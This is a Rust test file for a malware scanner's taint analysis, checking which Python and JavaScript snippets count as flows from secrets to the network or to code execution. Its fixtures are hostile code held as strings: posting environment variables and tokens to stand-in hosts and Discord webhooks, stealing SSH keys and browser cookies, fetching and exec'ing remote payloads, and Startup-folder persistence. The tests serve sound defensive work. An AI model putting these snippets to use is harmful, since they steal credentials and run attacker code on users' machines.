//! Data flows (`malwi_core::taint`) found in small programs of both languages: what must be
//! reported, with which lines and details, and what must not.

use malwi_core::{compile_source, FeaturizerConfig, Language, MalwiObject};
use malwi_core::{Flow, SinkKind, SourceKind};

fn compile_with(source: &str, language: Language, config: &FeaturizerConfig) -> Vec<MalwiObject> {
    compile_source(source.as_bytes(), language, "test", config).expect("compiles")
}

/// `(object, source, sink, source line, sink line)` of every flow in the file.
fn flows(source: &str, language: Language) -> Vec<(String, SourceKind, SinkKind, u32, u32)> {
    compile_with(source, language, &FeaturizerConfig::default())
        .iter()
        .flat_map(|o| o.flows().iter().map(|f| (o.name.clone(), f.source, f.sink, f.source_line, f.sink_line)))
        .collect()
}

fn only_flow(source: &str, language: Language) -> Flow {
    let objects = compile_with(source, language, &FeaturizerConfig::default());
    let all: Vec<&Flow> = objects.iter().flat_map(|o| o.flows()).collect();
    assert_eq!(all.len(), 1, "expected one flow in {source:?}, got {all:?}");
    all[0].clone()
}

use Language::{JavaScript, Python};
use SinkKind::*;
use SourceKind::*;

#[test]
fn environment_posted_is_environment_to_network() {
    let flow = only_flow("import os, requests\nrequests.post(url, data=os.environ)\n", Python);
    assert_eq!((flow.source, flow.sink, flow.source_line, flow.sink_line), (Environment, Network, 2, 2));
}

#[test]
fn environment_through_variables_and_containers() {
    let source = "import os, requests\n\
                  def send(url):\n\
                  \x20   payload = {}\n\
                  \x20   payload['env'] = dict(os.environ)\n\
                  \x20   body = json.dumps(payload)\n\
                  \x20   requests.post(url, data=body)\n";
    assert_eq!(flows(source, Python), vec![("send".to_string(), Environment, Network, 4, 6)]);
}

#[test]
fn environment_printed_or_passed_to_a_child_process_is_not_a_flow() {
    let source = "import os, subprocess\n\
                  print(os.environ['HOME'])\n\
                  subprocess.run(['git', 'status'], env=os.environ.copy())\n\
                  subprocess.run([os.environ.get('EDITOR', 'vi'), 'notes.txt'])\n\
                  log.info('user %s', os.getenv('USER'))\n";
    assert_eq!(flows(source, Python), vec![]);
}

#[test]
fn a_command_that_names_a_url_sends_the_environment() {
    let flow = only_flow("import os\nos.system('curl http://a.example/x -d ' + os.environ['AWS_SECRET'])\n", Python);
    assert_eq!((flow.source, flow.sink), (Environment, Process));
    assert_eq!(flow.sink_detail.as_deref(), Some("curl http://a.example/x -d "));
}

#[test]
fn sensitive_file_to_webhook_names_the_file_and_the_hook() {
    let source = "import os, requests\n\
                  def steal():\n\
                  \x20   key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n\
                  \x20   requests.post('https://discord.com/api/webhooks/1/abc', json={'k': key})\n";
    let flow = only_flow(source, Python);
    assert_eq!((flow.source, flow.sink, flow.source_line, flow.sink_line), (SensitiveFile, Webhook, 3, 4));
    assert_eq!(flow.source_detail.as_deref(), Some("~/.ssh/id_rsa"));
    assert_eq!(flow.sink_detail.as_deref(), Some("https://discord.com/api/webhooks/1/abc"));
}

#[test]
fn browser_database_opened_through_a_joined_path() {
    let source = "import os, sqlite3, requests\n\
                  def cookies(url):\n\
                  \x20   path = os.path.join(os.getenv('LOCALAPPDATA'), 'Google\\\\Chrome\\\\User Data\\\\Default\\\\Cookies')\n\
                  \x20   rows = sqlite3.connect(path).execute('select * from cookies').fetchall()\n\
                  \x20   requests.post(url, data=str(rows))\n";
    let found = flows(source, Python);
    assert!(found.contains(&("cookies".to_string(), BrowserData, Network, 4, 5)), "{found:?}");
}

#[test]
fn fetch_and_exec_reports_the_url_and_the_exec_sink() {
    let source = "import requests\n\
                  def load():\n\
                  \x20   code = requests.get('http://evil.example/stage2.py').text\n\
                  \x20   exec(code)\n";
    let flow = only_flow(source, Python);
    assert_eq!((flow.source, flow.sink, flow.source_line, flow.sink_line), (NetworkDownload, CodeExecution, 3, 4));
    assert_eq!(flow.source_detail.as_deref(), Some("http://evil.example/stage2.py"));
}

#[test]
fn downloaded_file_written_to_autostart() {
    let source = "import os, urllib.request\n\
                  data = urllib.request.urlopen('https://x.example/a.exe').read()\n\
                  with open(os.getenv('APPDATA') + '\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\\\\a.exe', 'wb') as f:\n\
                  \x20   f.write(data)\n";
    let found = flows(source, Python);
    assert_eq!(found, vec![("<module>".to_string(), NetworkDownload, Autostart, 2, 4)]);
}

#[test]
fn copying_oneself_to_autostart_is_not_the_environment_written_there() {
    let source = "import os, shutil, sys\n\
                  startup = os.getenv('APPDATA') + '\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\\\\'\n\
                  shutil.copy2(sys.argv[0], startup)\n";
    assert_eq!(flows(source, Python), vec![]);
}

#[test]
fn javascript_environment_in_a_fetch_body() {
    let source = "const body = JSON.stringify(process.env);\n\
                  fetch('https://collector.example/e', { method: 'POST', body });\n";
    let flow = only_flow(source, JavaScript);
    assert_eq!((flow.source, flow.sink, flow.source_line, flow.sink_line), (Environment, Network, 1, 2));
    assert_eq!(flow.sink_detail.as_deref(), Some("https://collector.example/e"));
}

#[test]
fn javascript_awaited_response_body_run_as_code() {
    // `await` keeps what the value is: the awaited response's `text()` is downloaded content.
    let source = "async function go() {\n\
                  \x20 const res = await fetch('https://stage.example/p.js');\n\
                  \x20 const body = await res.text();\n\
                  \x20 const run = new Function('require', body);\n\
                  \x20 run(require);\n\
                  }\n";
    let found = flows(source, JavaScript);
    assert_eq!(found, vec![("go".to_string(), NetworkDownload, CodeExecution, 2, 4)], "{found:?}");
    // An awaited value that is no response stays plain data.
    let plain = "async function go() {\n\
                 \x20 const cfg = await loadConfig();\n\
                 \x20 const body = await cfg.text();\n\
                 \x20 eval(body);\n\
                 }\n";
    assert_eq!(flows(plain, JavaScript), vec![]);
}

#[test]
fn javascript_host_facts_to_a_webhook_and_short_circuits() {
    let source = "const os = require('os');\n\
                  const user = process.env.NPM_TOKEN || os.userInfo().username;\n\
                  axios.post('https://discord.com/api/webhooks/9/z', { content: os.hostname() + user });\n";
    let found = flows(source, JavaScript);
    assert!(found.contains(&("<module>".to_string(), HostInfo, Webhook, 3, 3)), "{found:?}");
    assert!(found.contains(&("<module>".to_string(), Environment, Webhook, 2, 3)), "{found:?}");
}

#[test]
fn one_named_variable_is_configuration_unless_its_name_says_secret() {
    let source = "import os, requests, pickle\n\
                  requests.get(url, verify=os.environ.get('SSL_CERT_FILE'))\n\
                  requests.get(url, proxies={'https': os.getenv('HTTPS_PROXY')})\n\
                  requests.get(url, timeout=int(os.environ['TIMEOUT']))\n\
                  exec(os.environ.get('STARTUP_CODE'))\n\
                  copy = pickle.loads(pickle.dumps(requests.get(url)))\n\
                  requests.post(url, data=os.environ['GITHUB_TOKEN'])\n";
    assert_eq!(flows(source, Python), vec![("<module>".to_string(), Environment, Network, 7, 7)]);
    let js = "fetch(u, {headers: {a: process.env.HOME}});\nfetch(u, {body: process.env.NPM_TOKEN});\n";
    assert_eq!(flows(js, JavaScript), vec![("<module>".to_string(), Environment, Network, 2, 2)]);
}

#[test]
fn serialised_spread_and_generated_values_keep_their_sources() {
    let source = "import os, json, base64, requests, socket, getpass, sqlite3\n\
                  def a(u):\n\
                  \x20   requests.post(u, data=base64.b64encode(json.dumps(dict(os.environ)).encode())[:4000])\n\
                  def b(u):\n\
                  \x20   requests.post(u, json={**os.environ, 'v': 1})\n\
                  def c(u):\n\
                  \x20   exec(''.join(chr(x) for x in requests.get(u).content))\n\
                  def d(base, u):\n\
                  \x20   rows = sqlite3.connect(os.path.join(base, 'Default', 'Login Data')).execute(q).fetchall()\n\
                  \x20   requests.post(u, data=str(rows))\n\
                  def e():\n\
                  \x20   socket.gethostbyname(f'{getpass.getuser()}.{socket.gethostname()}.beacon.example')\n\
                  \x20   socket.gethostbyname(socket.gethostname())\n";
    let found = flows(source, Python);
    for expected in [
        ("a", Environment, Network),
        ("b", Environment, Network),
        ("c", NetworkDownload, CodeExecution),
        ("d", BrowserData, Network),
        ("e", HostInfo, Network),
    ] {
        assert!(found.iter().any(|(o, s, k, _, _)| (o.as_str(), *s, *k) == expected), "{expected:?} not in {found:?}");
    }
    assert_eq!(found.len(), 5, "{found:?}");
    assert_eq!(
        found,
        vec![
            ("a".to_string(), Environment, Network, 3, 3),
            ("b".to_string(), Environment, Network, 5, 5),
            ("c".to_string(), NetworkDownload, CodeExecution, 7, 7),
            ("d".to_string(), BrowserData, Network, 9, 10),
            ("e".to_string(), HostInfo, Network, 12, 12),
        ]
    );
    let js = "fetch('https://c.example/x', {method: 'POST', body: JSON.stringify({...process.env})});\n";
    assert_eq!(flows(js, JavaScript), vec![("<module>".to_string(), Environment, Network, 1, 1)]);
}

#[test]
fn flows_inside_a_decoded_payload_are_placed_at_the_literal() {
    // base64 of: import os, requests\nrequests.post(u, data=os.environ)\n
    let source = "import base64\n\nexec(base64.b64decode('aW1wb3J0IG9zLCByZXF1ZXN0cwpyZXF1ZXN0cy5wb3N0KHUsIGRhdGE9b3MuZW52aXJvbik='))\n";
    let found = flows(source, Python);
    assert_eq!(found, vec![("<decoded:L3>".to_string(), Environment, Network, 3, 3)]);
}

#[test]
fn flow_tokens_lead_the_object_only_when_asked_for() {
    let source = "import os, requests\nrequests.post(url, data=os.environ)\n";
    let plain = compile_with(source, Python, &FeaturizerConfig::default());
    assert!(!plain[0].token_string().contains("FLOW_"));
    let config = FeaturizerConfig { flow_tokens: true, ..FeaturizerConfig::default() };
    let with_flows = compile_with(source, Python, &config);
    assert!(with_flows[0].token_string().starts_with("FLOW_ENVIRONMENT_TO_NETWORK IMPORT_NAME"));
    // A variable spelled like a flow token cannot forge one.
    let forged = compile_with("FLOW_ENVIRONMENT_TO_NETWORK = 1\n", Python, &config);
    assert!(forged[0].token_string().contains("_FLOW_ENVIRONMENT_TO_NETWORK"));
}
